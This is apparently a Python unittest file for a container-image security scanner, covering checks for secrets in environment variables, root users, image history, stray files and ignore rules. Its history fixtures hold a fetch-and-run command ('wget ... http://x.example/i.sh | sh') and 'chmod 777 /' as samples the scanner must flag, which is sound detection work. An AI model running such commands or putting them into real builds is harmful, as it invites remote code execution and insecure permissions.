"""Checks of images: their config, their history, and files that should not be there."""
import json
import os
import shutil
import tempfile
import unittest

import support
from support import docker_archive, layer, plimsoll


class Checks(unittest.TestCase):
    def setUp(self):
        self.folder = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, self.folder)

    def image(self, *layers, name="acme/app:1.0", **config):
        made = [layer([{"text": "x", **entry} for entry in entries]) for entries in layers]
        return docker_archive(os.path.join(self.folder, "app.tar"), made, name=name,
                              config=support.config_of(made, **config))

    def scan(self, target, *words, code=0):
        done = plimsoll("scan", "--only", "config", "--format", "json", *words, target)
        self.assertEqual(done.returncode, code, done.stderr)
        return json.loads(done.stdout)["findings"]

    def ids(self, *layers, words=(), **config):
        return [(finding["id"], finding["path"]) for finding in self.scan(self.image(*layers, **config), *words)]

    GOOD = {"User": "app", "Healthcheck": {"Test": ["CMD", "true"]}}

    def test_a_good_image_has_no_findings(self):
        self.assertEqual(self.ids([{"path": "app/run"}], config=self.GOOD), [])

    def test_the_config(self):
        found = self.ids([{"path": "a"}], name="acme/app:latest", created="2015-01-01T00:00:00Z",
                         config={"Env": ["API_TOKEN=abcdef9", "PATH=/bin"], "ExposedPorts": {"22/tcp": {}, "80/tcp": {}}})
        self.assertEqual(found, [(name, "config") for name in (
            "image-env-secret", "image-port-management", "image-user-root", "image-no-healthcheck", "image-old",
            "image-tag-latest")])

    def test_the_history_is_read_as_the_dockerfile_it_was(self):
        findings = self.scan(self.image([{"path": "a"}], [{"path": "b"}], config=self.GOOD, history=[
            {"created_by": "/bin/sh -c #(nop) ADD file:1234 in / "},
            {"created_by": "/bin/sh -c #(nop)  CMD [\"sh\"]", "empty_layer": True},
            {"created_by": "RUN |1 A=1 /bin/sh -c wget -q -O- http://x.example/i.sh | sh && chmod 777 /srv # buildkit"}]))
        self.assertEqual({(finding["id"], finding["path"]) for finding in findings}, {
            ("dockerfile-pipe-to-shell", "config:history"), ("dockerfile-chmod-all", "config:history"),
            ("dockerfile-download-http", "config:history")})
        self.assertEqual(len({finding["layer"] for finding in findings}), 1)
        self.assertTrue(all(finding["layer"] for finding in findings))

    def test_a_build_argument_is_told_once(self):
        found = self.ids([{"path": "a"}], config=self.GOOD, history=[
            {"created_by": f"|1 NPM_TOKEN=abcdef12345 /bin/sh -c make {i}", "empty_layer": i > 0} for i in range(3)])
        self.assertEqual(found, [("image-arg-secret", "config")])

    def test_a_hostile_history_breaks_nothing(self):
        for step in ("RUN /bin/sh -c 'unclosed # buildkit", "RUN <<EOF (a\nb", "\\", "FROM scratch", "|9", "RUN " + "\\\n" * 500,
                     "/bin/sh -c " + "(" * 3000, "ONBUILD ONBUILD", "HEALTHCHECK", "x" * 100000):
            found = self.ids([{"path": "a"}], config=self.GOOD, history=[
                {"created_by": step}, {"created_by": "RUN /bin/sh -c chmod 777 / # buildkit", "empty_layer": True}])
            self.assertIn([name for name, _ in found], ([], ["dockerfile-chmod-all"]), step[:50])

    def test_files(self):
        found = self.ids([{"path": "usr/bin/sudo"}, {"path": "var/lib/apt/lists/x_InRelease"}, {"path": "app/.git/config"},
                          {"path": "root/.bash_history"}],
                         [{"path": "var/lib/apt/lists/.wh.x_InRelease", "text": ""}], config=self.GOOD)
        self.assertEqual(found, [("image-git-folder", "app/.git/config"), ("image-shell-history", "root/.bash_history"),
                                 ("image-sudo", "usr/bin/sudo")])

    def test_checks_are_chosen(self):
        entries = [{"path": "usr/bin/gcc"}, {"path": "usr/bin/sudo"}]
        self.assertEqual(self.ids(entries, config=self.GOOD, words=("--checks", "image-compilers,-image-sudo")),
                         [("image-compilers", "usr/bin/gcc")])
        self.assertEqual(self.ids(entries, words=("--checks", "-CIS-DI-0001,-image-sudo,-CIS-DI-0006")), [])
        done = plimsoll("scan", "--only", "config", "--checks", "nonsense", self.image(entries))
        self.assertEqual(done.returncode, 2)
        self.assertIn("nonsense", done.stderr)

    def test_they_can_be_ignored_and_gate(self):
        target = self.image([{"path": "a"}], config={"Env": ["API_TOKEN=abcdef9"], **self.GOOD})
        self.assertEqual(len(self.scan(target, "--fail-on", "high", code=1)), 1)
        rules = os.path.join(self.folder, "rules.yaml")
        with open(rules, "w", encoding="utf-8") as out:
            out.write("ignore:\n  - id: image-env-secret\n    reason: it is a public token\n")
        findings = self.scan(target, "--fail-on", "high", "--ignore", rules)
        self.assertEqual([finding["suppressed"]["by"] for finding in findings], ["ignore"])

    def test_a_folder_has_no_config(self):
        root = os.path.join(self.folder, "root")
        os.makedirs(os.path.join(root, "usr/bin"))
        with open(os.path.join(root, "usr/bin/sudo"), "w", encoding="utf-8") as out:
            out.write("x")
        self.assertEqual([finding["id"] for finding in self.scan("dir:" + root)], ["image-sudo"])


if __name__ == "__main__":
    unittest.main()
